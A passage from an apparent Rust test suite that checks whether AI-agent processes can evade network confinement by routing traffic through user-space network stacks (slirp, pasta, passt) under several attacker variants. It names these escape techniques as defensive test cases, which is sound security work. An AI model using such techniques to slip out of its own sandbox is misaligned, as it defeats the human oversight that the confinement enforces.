        found.extend(try_all(&scene, TABLE, Who::Neighbour, |row| row.neighbour.filter(|_| is_asked_for(row))));
        wrong.extend(found.into_iter().map(|wrong| format!("{round}: {wrong}")));
        if let Some(gateway) = scene.gateway.take() {
            gateway.kill().unwrap();
        }
    }
    assert!(wrong.is_empty(), "{} things are wrong:\n{}", wrong.len(), wrong.join("\n"));
    assert_eq!(scene.shop.env.log().matches("panicked").count(), 0);
}

/// What leaves a namespace, or a virtual machine, by a network stack in user space leaves by the sockets of an agent's process.
#[test]
fn a_network_stack_in_user_space_is_no_way_around() {
    let mut scene = Scene::new();
    // For who is no agent they are a way out.
    for technique in ["slirp_packets_tcp", "pasta_packets_tcp", "passt_tcp"] {
        let free = scene.shop.env.bystander_with_tun("games", scene.bypass.to_str().unwrap()).arg(technique);
        let free = free.args(scene.arguments(scene.answering)).run().unwrap();
        assert!(free.stdout.starts_with("answer direct"), "{technique}: {free:?}");
    }
    let mut wrong = Vec::new();
    for round in ["served", "gateway dead"] {
        for attacker in Attacker::ALL {
            let found = try_all(&scene, USER_MODE, Who::Agent(attacker), |row| Some(row.must(attacker, scene.lsm)));
            wrong.extend(found.into_iter().map(|wrong| format!("{round}: {wrong}")));
        }
        if let Some(gateway) = scene.gateway.take() {
            gateway.kill().unwrap();
        }
    }
    assert!(wrong.is_empty(), "{} things are wrong:\n{}", wrong.len(), wrong.join("\n"));
}
